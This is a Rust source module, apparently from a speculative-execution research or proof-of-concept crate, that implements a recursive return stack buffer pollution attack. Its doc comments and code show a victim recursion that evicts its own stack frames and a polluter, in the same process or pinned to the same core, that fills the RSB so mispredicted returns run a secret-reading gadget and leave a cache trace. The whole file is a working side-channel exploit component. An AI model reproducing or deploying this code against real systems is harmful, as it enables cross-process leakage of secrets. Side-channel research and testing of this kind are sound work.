//! Recursive RSB pollution.
//!
//! Context
//! =======
//!
//! The return stack buffer has a fixed number of entries. A call pushes its
//! return address; a return pops the top entry and speculatively continues
//! there until the real return address has been loaded from the stack.
//!
//! Test
//! ====
//!
//! 1. [Pollution::always_true] recurses `depth` times, recording a stack
//!    mark in every frame.
//!
//! 2. At the bottom, the RSB gets overwritten with return addresses that
//!    point into [Pollution::always_false]: either the victim recurses
//!    through `always_false` itself (single-process), or it yields to a
//!    polluter process pinned to the same core which does (cross-process).
//!
//! 3. While unwinding, each `always_true` frame flushes its own stack region
//!    (including the return address of its parent) before returning. The
//!    parent's return then has to wait on a cache miss for the real return
//!    address, and the core speculatively follows the polluted RSB entry.
//!
//! 4. That entry is the instruction after a recursive `always_false` call.
//!    `always_false` can never return true, but `always_true` just did, so
//!    the speculative path takes the dead branch and runs the
//!    [SecretAccess] gadget.
//!
//! Results
//! =======
//!
//! The oracle slot for the secret byte is left in the cache.

use crate::cache::LineFlush;
use crate::config::{ LeakConfig, Variant };
use crate::error::Result;
use crate::evict::FrameEviction;
use crate::gadget::SecretAccess;
use crate::marks::StackMarks;
use crate::util::RsbEnv;

/// Everything shared by the frames of one pollution run.
///
/// Always heap-allocated (see [Pollution::new]): frames are being flushed
/// from the cache as they return, and nothing the recursion depends on may
/// live in them.
pub struct Pollution<'a, F: LineFlush> {
    marks: StackMarks,
    eviction: FrameEviction<'a, F>,
    gadget: SecretAccess<'a>,

    /// Return value of [Pollution::always_false]. Kept out of the frames and
    /// read with a volatile load so the compiler can't prove the dead branch
    /// dead.
    false_value: bool,

    variant: Variant,
    depth: usize,

    /// `(remaining depth, tracker depth)` after every push and every pop.
    #[cfg(test)]
    trace: Vec<(usize, usize)>,
}

impl <'a, F: LineFlush> Pollution<'a, F> {
    /// Validate `cfg` and build a context on the heap.
    pub fn new(gadget: SecretAccess<'a>, flusher: &'a F, cfg: &LeakConfig)
        -> Result<Box<Self>>
    {
        cfg.validate()?;
        Ok(Self::from_validated(gadget, flusher, cfg))
    }

    /// Build a context from a configuration the caller already validated.
    pub(crate) fn from_validated(gadget: SecretAccess<'a>, flusher: &'a F,
        cfg: &LeakConfig) -> Box<Self>
    {
        Box::new(Self {
            marks: StackMarks::with_capacity(cfg.recursion_depth + 2),
            eviction: FrameEviction::new(flusher, cfg.line_size),
            gadget,
            false_value: false,
            variant: cfg.variant,
            depth: cfg.recursion_depth,
            #[cfg(test)]
            trace: Vec::new(),
        })
    }

    pub fn marks(&self) -> &StackMarks { &self.marks }

    pub fn depth(&self) -> usize { self.depth }

    #[inline(always)]
    fn false_value(&self) -> bool {
        unsafe { core::ptr::read_volatile(&self.false_value) }
    }

    /// Always returns false.
    ///
    /// Executed by the polluter. The body of the inner `if` is unreachable,
    /// but the return address of the recursive call is exactly what ends up
    /// in the RSB.
    #[inline(never)]
    pub fn always_false(&self, depth: usize) -> bool {
        if depth > 0 {
            if self.always_false(depth - 1) {
                self.gadget.access();
            }
        } else if self.variant == Variant::CrossProcess {
            // Let the victim run on top of our RSB entries.
            RsbEnv::yield_cpu();
        }
        self.false_value()
    }

    /// Always returns true.
    ///
    /// Executed by the victim. Every frame flushes itself on the way out.
    #[inline(never)]
    pub fn always_true(&mut self, depth: usize) -> bool {
        let stack_mark: u8 = b'a';
        let mark = std::hint::black_box(&stack_mark) as *const u8;
        self.marks.push(mark);
        #[cfg(test)]
        self.trace.push((depth, self.marks.depth()));

        if depth > 0 {
            self.always_true(depth - 1);
        } else {
            match self.variant {
                Variant::CrossProcess => RsbEnv::yield_cpu(),
                Variant::SingleProcess => {
                    self.always_false(self.depth);
                },
            }
        }

        // Only after popping our own mark is the top of the tracker our
        // parent's mark.
        self.marks.pop();
        #[cfg(test)]
        self.trace.push((depth, self.marks.depth()));
        debug_assert!(!self.marks.is_empty(), "missing sentinel mark");
        if let Some(parent) = self.marks.peek() {
            self.eviction.evict(mark as usize, parent);
        }
        true
    }

    /// Run one full pollution pass from the caller's frame.
    #[inline(never)]
    pub fn run(&mut self) -> bool {
        // Sentinel mark, so the outermost `always_true` frame has a parent.
        let stack_mark: u8 = b'a';
        self.marks.push(std::hint::black_box(&stack_mark));
        let res = self.always_true(self.depth);
        self.marks.pop();
        res
    }
}
